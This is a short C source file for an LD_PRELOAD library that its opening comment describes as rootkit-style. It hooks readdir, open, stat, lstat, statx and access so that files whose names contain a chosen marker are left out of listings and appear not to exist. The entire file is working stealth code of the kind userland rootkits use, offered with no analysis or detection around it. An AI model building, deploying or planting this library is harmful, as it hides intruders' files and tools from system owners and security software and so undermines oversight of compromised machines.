/* A preloaded library as rootkits have them: whatever has the word HIDDEN in its name is left out of listings and cannot be opened. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <stdarg.h>
#include <string.h>
#define SECRET(p) ((p) && strstr((p), HIDDEN))
#define REAL(type, name, ...) ((type (*)())dlsym(RTLD_NEXT, name))(__VA_ARGS__)
#define HIDE(name, args, path, ...) int name args { return SECRET(path) ? (errno = ENOENT, -1) : REAL(int, #name, __VA_ARGS__); }
#define HIDE_OPEN(name) \
  int name(const char *p, int f, ...) { \
    va_list r; \
    va_start(r, f); \
    unsigned m = va_arg(r, unsigned); \
    va_end(r); \
    return SECRET(p) ? (errno = ENOENT, -1) : REAL(int, #name, p, f, m); \
  }
struct dirent64 *readdir64(DIR *d) {
  struct dirent64 *e;
  while ((e = REAL(struct dirent64 *, "readdir64", d)) && SECRET(e->d_name)) continue;
  return e;
}
struct dirent *readdir(DIR *d) { return (struct dirent *)readdir64(d); }
HIDE_OPEN(open)
HIDE_OPEN(open64)
HIDE(stat, (const char *p, void *o), p, p, o)
HIDE(lstat, (const char *p, void *o), p, p, o)
HIDE(stat64, (const char *p, void *o), p, p, o)
HIDE(lstat64, (const char *p, void *o), p, p, o)
HIDE(statx, (int d, const char *p, int f, unsigned m, void *o), p, d, p, f, m, o)
HIDE(access, (const char *p, int m), p, p, m)
